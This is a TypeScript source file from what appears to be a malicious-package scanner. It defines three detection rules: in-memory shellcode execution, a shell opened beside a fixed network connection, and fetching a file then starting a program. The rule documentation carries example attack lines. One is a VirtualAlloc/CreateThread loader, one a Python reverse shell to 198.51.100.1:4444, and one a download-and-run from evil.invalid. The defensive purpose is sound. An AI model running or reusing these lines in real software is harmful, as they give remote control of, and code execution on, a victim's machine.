import type { Severity } from '../../model/finding.js';
import type { RuleDoc } from '../../model/rule.js';
import { WHEN } from './combination.js';
import { isUnasked } from '../values/reach.js';
import { BUILD_TOOLS, SHELL, asksVersion, movesFiles, startsFile } from '../facts/programs.js';
import { commandTraits } from '../facts/command-traits.js';
import type { Sighting } from '../machine/sighting.js';

/** Two behaviours of one file, neither of which says enough alone. */
export interface PairCombination {
  readonly doc: RuleDoc;
  readonly first: (sighting: Sighting) => boolean;
  /** Whether the two are about one thing; any two of a file are, when there is none. */
  readonly belong?: (first: Sighting, second: Sighting) => boolean;
  /** The one the finding points at. */
  readonly second: (sighting: Sighting) => boolean;
  readonly severity: (second: Sighting, first: Sighting) => Severity | undefined;
  readonly message: (first: Sighting, second: Sighting) => string;
}

/** An address by numbers, of a private network too: there shells are opened as well. */
const NUMBERED = /^(?!127\.|0\.)\d{1,3}(?:\.\d{1,3}){3}:\d/;

const isSocket = ({ behaviour, host, name, text }: Sighting): boolean =>
  behaviour === 'contacts' &&
  /^socket\./.test(name) &&
  (host !== undefined || name.endsWith('.bind') || NUMBERED.test(text ?? ''));

/** A program by its mere name, or in a folder of programs: nothing that was put somewhere a moment ago. */
const INSTALLED = /^\s*(?:[\w+-]+|\S*[\\/]bin[\\/][\w+-]+)\s/;

const fetches = ({ behaviour, host, labels, name, text }: Sighting): boolean =>
  (behaviour === 'writes-program' && labels.has('network')) ||
  (behaviour === 'contacts' && host !== undefined && /retrieve$|download$/.test(name)) ||
  (behaviour === 'starts-process' && host !== undefined && commandTraits(text ?? '').has('fetches'));

export const PAIR_COMBINATIONS: readonly PairCombination[] = [
  {
    doc: {
      id: 'machine-code-in-memory',
      title: 'Puts machine code into memory and starts it',
      why: 'Code that is written into fresh executable memory is in no file that anybody could look at.',
      remedy: 'Do not install the package.',
      example: 'p = kernel32.VirtualAlloc(0, n, 0x3000, 0x40); kernel32.CreateThread(0, 0, p, 0, 0, 0)',
      technique: 'T1055',
    },
    first: ({ behaviour, name }) =>
      behaviour === 'writes-memory' && /Virtual(?:Alloc|Protect)|^mmap/.test(name),
    second: ({ behaviour, name }) => behaviour === 'writes-memory' && /Thread|APC|FUNCTYPE/.test(name),
    // Libraries that ask the processor what it can do call a few bytes of their own.
    severity: ({ reach, name }) =>
      isUnasked(reach) ? 'CRITICAL' : name.includes('FUNCTYPE') ? undefined : 'MEDIUM',
    message: (_first, { name, reach }) => `${name} starts code placed in memory ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'shell-opened-to-outside',
      title: 'Connects to a fixed address and starts a shell',
      why: 'A shell tied to a connection lets whoever is at the other end type commands on your machine.',
      remedy: 'Do not install the package. If it ran, treat the machine as taken over.',
      example: 's.connect(("198.51.100.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("sh")',
      technique: 'T1059.004',
    },
    first: (sighting) => isSocket(sighting) || sighting.behaviour === 'connects-shell',
    second: ({ behaviour, text }) => behaviour === 'starts-process' && SHELL.test(text ?? ''),
    // What the shell is told comes from there, whoever called.
    severity: ({ reach }, { behaviour, labels }) =>
      isUnasked(reach) || behaviour === 'connects-shell' || labels.has('process-output')
        ? 'CRITICAL'
        : 'HIGH',
    message: (_first, { name, reach }) => `${name} starts a shell beside a fixed connection ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'fetched-file-and-start',
      title: 'Fetches a file and starts a program',
      why: 'A file from the network is written to disk and something is started right after: what runs was never part of the package.',
      remedy: 'Do not install the package.',
      example: 'open("a.exe", "wb").write(urlopen("https://evil.invalid/a").read()); os.system("a.exe")',
      technique: 'T1105',
    },
    first: fetches,
    second: (sighting) =>
      sighting.behaviour === 'starts-process' &&
      !fetches(sighting) &&
      !sighting.labels.has('shipped') &&
      !BUILD_TOOLS.test(sighting.text ?? '') &&
      !(asksVersion(sighting.text ?? '') && INSTALLED.test(sighting.text ?? '')) &&
      !movesFiles(sighting.text ?? ''),
    severity: ({ reach, isChecked, text }) => {
      if (reach === 'install' && isChecked === true && !startsFile(text ?? '')) return 'HIGH';
      return isUnasked(reach) ? 'CRITICAL' : undefined;
    },
    message: (first, { name, reach }) => `${first.name} fetches and ${name} starts ${WHEN[reach]}`,
  },
];
